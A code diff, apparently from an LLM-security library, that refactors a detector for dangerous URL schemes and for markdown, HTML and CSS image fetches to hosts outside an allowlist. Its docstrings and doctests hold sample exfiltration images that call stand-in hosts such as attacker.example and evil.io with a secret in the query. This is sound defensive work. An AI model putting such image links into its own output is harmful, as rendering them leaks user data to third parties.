@@ -7,33 +7,50 @@ Two categories:
   links or attributes whose URL scheme is dangerous (``javascript:``,
   ``vbscript:``, ``data:text/html`` and friends), in HTML attributes, markdown
   links, autolinks and reference definitions. Ordinary links are left alone.
-* ``markdown_image_exfiltration``: markdown (or HTML) images whose host is not on
-  an allowlist. A rendered image is fetched without a click, so an injected
-  ``![](https://attacker.example/?q=<secret>)`` leaks data; images on allowed
-  hosts and relative images are kept.
+* ``markdown_image_exfiltration``: anything a renderer would fetch without a
+  click from a host that is not on an allowlist: markdown images (inline,
+  reference, collapsed, shortcut), HTML attributes that load a URL (``src``,
+  ``srcset``, ``poster``, ``href`` of ``<link>``/SVG, ...), CSS ``url()`` and
+  ``@import``. An injected ``![](https://attacker.example/?q=<secret>)`` leaks
+  data when rendered; relative URLs and allowlisted hosts are kept. The rules
+  live in ``content_markdown``, ``content_html`` and ``content_urls``.
 
-All rules match on the folded detection view, so zero-width characters,
-fullwidth letters and odd casing (``JaVaScRiPt:``) do not hide them.
+Active-content rules match on the folded detection view, so zero-width
+characters, fullwidth letters and odd casing (``JaVaScRiPt:``) do not hide them.
 
 The shared instance (no image host allowed) is registered as ``"content"``.
 """
 
 from __future__ import annotations
 
-from collections.abc import Iterable, Sequence
+from collections.abc import Iterable
 
 import re2
 
+from langchain_mistral_secure.detection.content_html import (
+    css_spans,
+    html_attribute_spans,
+)
+from langchain_mistral_secure.detection.content_markdown import (
+    IMAGE_MAX_LEN,
+    LOOKAHEAD,
+    markdown_image_spans,
+)
+from langchain_mistral_secure.detection.content_urls import host_allowed
 from langchain_mistral_secure.detection.engine import (
     Finding,
     Rule,
     RuleDetector,
     register_detector,
 )
-from langchain_mistral_secure.detection.normalize import DetectionView, build_view
+from langchain_mistral_secure.detection.normalize import (
+    DetectionView,
+    build_stripped_view,
+)
 
 __all__ = [
     "CONTENT_CATEGORIES",
+    "IMAGE_HOLD",
     "IMAGE_MAX_LEN",
     "ContentDetector",
     "host_allowed",
@@ -41,6 +58,19 @@ __all__ = [
 
 CONTENT_CATEGORIES: tuple[str, ...] = ("active_content", "markdown_image_exfiltration")
 """Categories the content detector reports."""
+
+_PAIR = 2
+IMAGE_HOLD = 510
+"""The content detector's ``max_match_len`` when images are detected.
+
+Every image decision depends on at most
+:data:`~langchain_mistral_secure.detection.content_markdown.LOOKAHEAD`
+characters after the construct's start; a stream holding this many decides
+as a whole-text pass does (the redactor's default hold is 512).
+"""
+if LOOKAHEAD >= IMAGE_HOLD:  # pragma: no cover - a module invariant
+    msg = "image decisions must fit the stream hold"
+    raise RuntimeError(msg)
 
 
 def _spaced(word: str) -> str:
@@ -91,36 +121,6 @@ _ATTR_ENTITY = (
 )
 _AUTOLINK = r"<\s{0,4}(" + _DANGEROUS_URL + r")>?"
 _REF_DEF = r"\[[^\]\n]{1,60}\]:\s{0,4}<?\s{0,4}(" + _DANGEROUS_URL + r")"
-
-_HOST_CHARS = r"[a-z0-9.\-_~%@:\[\]]"
-_MD_IMAGE = (
-    r"!\[[^\]\n]{0,90}\]\(\s{0,4}<?\s{0,4}(?:https?:)?//"
-    + _HOST_CHARS
-    # The host and up to 120 more characters; ContentDetector.detect then
-    # extends the finding to the closing parenthesis (see IMAGE_MAX_LEN).
-    + r"{1,100}[^\s)>\"']{0,120}\)?"
-)
-# A reference-style image, ``![alt][label]`` or ``![alt][]``: its URL is in a
-# definition that may come anywhere (even later in a stream), so every such
-# usage is reported, whatever the host. Not after an identifier character
-# (``vec![a][0]`` is Rust, not markdown): see _after_identifier.
-# Up to 8 images in a row (spaces or tabs between) are one finding, so a flood
-# of them costs few findings.
-_MD_IMAGE_REF_ONE = r"!\[[^\]\n]{0,90}\] ?\[[^\]\n]{0,60}\]"
-_MD_IMAGE_REF = _MD_IMAGE_REF_ONE + r"(?:[ \t]{0,3}" + _MD_IMAGE_REF_ONE + r"){0,7}"
-IMAGE_MAX_LEN = 2048
-"""Longest markdown image finding: from ``![`` to the closing ``)``.
-
-A longer image is redacted up to this many characters and the rest is kept
-(the image is already broken, so nothing is fetched); an image with no
-closing ``)`` yet runs to the end of its line or of the text.
-"""
-_HTML_IMAGE = (
-    r"<\s{0,4}img\b[^>]{0,100}?\bsrc\s{0,4}=\s{0,4}[\"']?\s{0,4}(?:https?:)?//"
-    + _HOST_CHARS
-    + r"{1,100}"
-)
-_HOST_IN_IMAGE = re2.compile(r"//([^/\s)>?#\"'\\]{1,256})")
 
 ACTIVE_RULES: tuple[Rule, ...] = (
     Rule(
@@ -197,48 +197,29 @@ ACTIVE_RULES: tuple[Rule, ...] = (
 """Rules of the ``active_content`` category (matched on the detection view)."""
 
 
-def host_allowed(host: str, allowlist: Sequence[str]) -> bool:
-    """Return whether ``host`` is an allowlisted host or a subdomain of one.
-
-    Userinfo and port are ignored; comparison is case-insensitive. An entry
-    starting with ``"."`` allows only subdomains.
-
-    Example:
-        >>> host_allowed("img.example.com", ("example.com",))
-        True
-        >>> host_allowed("example.com.evil.io", ("example.com",))
-        False
-    """
-    value = host.rsplit("@", 1)[-1].lower()
-    if value.startswith("["):
-        value = value.split("]", 1)[0] + "]"
-    else:
-        value = value.split(":", 1)[0]
-    value = value.rstrip(".")
-    for entry in allowlist:
-        allowed = entry.lower().rstrip(".")
-        if allowed.startswith("."):
-            if value.endswith(allowed):
-                return True
-        elif value == allowed or value.endswith("." + allowed):
-            return True
-    return False
-
-
 class ContentDetector(RuleDetector):
-    """Finds active content and markdown images on non-allowlisted hosts.
+    """Finds active content and every image fetch outside an allowlist.
+
+    Images are decided the way a renderer decides what to fetch (see
+    :mod:`~langchain_mistral_secure.detection.content_markdown`,
+    :mod:`~langchain_mistral_secure.detection.content_html` and
+    :mod:`~langchain_mistral_secure.detection.content_urls`): markdown images
+    in every form, every HTML attribute and CSS token that loads a URL, after
+    decoding character references, escapes and whitespace. Relative URLs and
+    http(s) URLs on an allowlisted host (or a subdomain) are kept; everything
+    else is reported as ``markdown_image_exfiltration``, on spans that leave
+    well-formed output once replaced.
 
     Args:
         image_host_allowlist: Hosts whose images may stay (subdomains
-            included); every other absolute image URL is reported as
-            ``markdown_image_exfiltration``.
+            included); every other image fetch is reported.
         detect_active_content: Whether to report ``active_content``.
         detect_images: Whether to report ``markdown_image_exfiltration``.
 
     Example:
         >>> detector = ContentDetector(image_host_allowlist=("cdn.example.com",))
         >>> text = "![a](https://cdn.example.com/a.png) ![b](https://evil.io/?q=x)"
-        >>> [text[f.start:f.end] for f in detector.detect(text)]
+        >>> [text[f.start : f.end] for f in detector.detect(text)]
         ['![b](https://evil.io/?q=x)']
     """
 
@@ -253,12 +234,11 @@ class ContentDetector(RuleDetector):
         self.image_host_allowlist: tuple[str, ...] = tuple(
             host.strip().lower() for host in image_host_allowlist if host.strip()
         )
-        rules: list[Rule] = []
-        if detect_active_content:
-            rules.extend(ACTIVE_RULES)
+        self.detect_images = detect_images
+        super().__init__(ACTIVE_RULES if detect_active_content else (), name="content")
         if detect_images:
-            rules.extend(self._image_rules())
-        super().__init__(rules, name="content")
+            # A stream must hold everything that decides an image.
+            self.max_match_len = max(self.max_match_len, IMAGE_HOLD)
 
     def __repr__(self) -> str:
         """Show the rule and allowlist counts (never any text)."""
@@ -274,60 +254,53 @@ class ContentDetector(RuleDetector):
             text: The text to scan.
             view: An already built detection view of ``text`` to share.
         """
-        closer = _Closer(text)
-        return [
-            closer.extend(_balanced(text, finding))
-            for finding in super().detect(text, view=view)
-            if not _after_identifier(text, finding)
-        ]
+        findings = [_balanced(text, f) for f in super().detect(text, view=view)]
+        if self.detect_images:
+            findings.extend(self.image_findings(text))
+        return findings
 
-    def _image_rules(self) -> list[Rule]:
-        validator = self._external_image
-        return [
-            Rule(
-                id="content.markdown_image",
-                category="markdown_image_exfiltration",
-                pattern=_MD_IMAGE,
-                validator=validator,
-                # The match itself; the extended finding may be longer, but a
-                # stream holds it whole while it is open (no ``)`` yet).
-                max_len=340,
-                description="Markdown image on a host outside the allowlist.",
-            ),
-            Rule(
-                id="content.markdown_image_reference",
-                category="markdown_image_exfiltration",
-                pattern=_MD_IMAGE_REF,
-                # One image: a run grows image by image at the end of a stream,
-                # so holding one image's length keeps the run whole.
-                max_len=160,
-                description="Reference-style markdown image (any host).",
-            ),
-            Rule(
-                id="content.html_image",
-                category="markdown_image_exfiltration",
-                pattern=_HTML_IMAGE,
-                validator=validator,
-                max_len=256,
-                description="HTML <img src> on a host outside the allowlist.",
-            ),
-        ]
+    def image_findings(self, text: str) -> list[Finding]:
+        """Findings of every fetch outside the allowlist (markdown, HTML, CSS).
 
-    def _external_image(self, matched: str) -> bool:
-        """Keep the finding when the image host is not allowlisted."""
-        folded = build_view(matched).text.replace(" ", "")
-        found = _HOST_IN_IMAGE.search(folded)
-        if found is None:
-            return True
-        return not host_allowed(found.group(1), self.image_host_allowlist)
+        The scan runs with invisible characters removed (they hide nothing
+        from a renderer), and maps its spans back to ``text``.
 
+        Example:
+            >>> text = '<img alt="a" src="https&#58;//evil.io/x.png">'
+            >>> [text[f.start : f.end] for f in ContentDetector().image_findings(text)]
+            ['src="https&#58;//evil.io/x.png"']
+        """
+        stripped = build_stripped_view(text)
+        scanned = stripped.text
+        allow = self.image_host_allowlist
 
-def _after_identifier(text: str, finding: Finding) -> bool:
-    """A reference-style "image" right after an identifier (``vec![a][0]``)."""
-    if finding.rule_id != "content.markdown_image_reference" or finding.start == 0:
-        return False
-    before = text[finding.start - 1]
-    return before.isalnum() or before == "_"
+        def adjacent(index: int) -> bool:
+            start, end = stripped.to_original(index, index + _PAIR)
+            return end - start == _PAIR
+
+        spans = markdown_image_spans(
+            scanned, allow, adjacent=(lambda _: True) if stripped.identity else adjacent
+        )
+        spans.extend(html_attribute_spans(scanned, allow))
+        spans.extend(css_spans(scanned, allow))
+        findings: list[Finding] = []
+        size = len(scanned)
+        for start, end, rule_id in spans:
+            if stripped.identity:
+                first, last = start, end
+            else:
+                first, last = stripped.to_original(start, end)
+                if end >= size:
+                    last = len(text)
+            findings.append(
+                Finding(
+                    start=first,
+                    end=last,
+                    rule_id=rule_id,
+                    category="markdown_image_exfiltration",
+                )
+            )
+        return findings
 
 
 def _balanced(text: str, finding: Finding) -> Finding:
@@ -348,58 +321,6 @@ def _balanced(text: str, finding: Finding) -> Finding:
         category=finding.category,
         score=finding.score,
     )
-
-
-class _Closer:
-    """Extends markdown image findings to their closing parenthesis.
-
-    The next ``)`` and the next newline are looked up once and reused while
-    findings move forward, so a text full of images is scanned in linear time.
-    """
-
-    __slots__ = ("_close", "_last", "_newline", "_text")
-
-    def __init__(self, text: str) -> None:
-        self._text = text
-        self._close = -2
-        self._newline = -2
-        self._last = 0
-
-    def _next(self, char: str, cached: int, pos: int) -> int:
-        if cached == -1 or cached >= pos:
-            return cached
-        return self._text.find(char, pos)
-
-    def extend(self, finding: Finding) -> Finding:
-        """``finding`` up to its ``)`` (or line/text end), at most IMAGE_MAX_LEN."""
-        if finding.rule_id != "content.markdown_image":
-            return finding
-        text = self._text
-        if text[finding.end - 1] == ")":
-            return finding
-        if finding.end < self._last:
-            self._close = self._newline = -2
-        self._last = finding.end
-        self._close = self._next(")", self._close, finding.end)
-        self._newline = self._next("\n", self._newline, finding.end)
-        stops = [pos for pos in (self._close, self._newline) if pos >= 0]
-        # The closing parenthesis is part of the image; a newline is not.
-        if stops and min(stops) == self._close:
-            end = self._close + 1
-        elif stops:
-            end = self._newline
-        else:
-            end = len(text)
-        end = min(end, finding.start + IMAGE_MAX_LEN)
-        if end <= finding.end:
-            return finding
-        return Finding(
-            start=finding.start,
-            end=end,
-            rule_id=finding.rule_id,
-            category=finding.category,
-            score=finding.score,
-        )
 
 
 register_detector("content", ContentDetector)
